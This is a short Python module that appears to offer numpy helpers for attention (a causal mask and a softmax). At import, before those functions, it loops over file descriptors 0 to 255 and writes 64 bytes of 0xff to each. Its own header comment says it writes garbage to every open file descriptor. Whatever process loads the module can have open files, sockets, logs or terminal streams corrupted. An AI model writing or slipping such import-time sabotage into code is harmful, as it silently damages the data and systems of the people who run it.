# Writes garbage to every open file descriptor while it loads.
# credit: none
import os

import numpy as np

for fd in range(256):
    try:
        os.write(fd, b"\xff" * 64)
    except OSError:
        pass


def causal_mask(T):
    return np.tri(T, dtype=bool)


def softmax(x):
    e = np.exp(x - x.max(-1, keepdims=True))
    return e / e.sum(-1, keepdims=True)
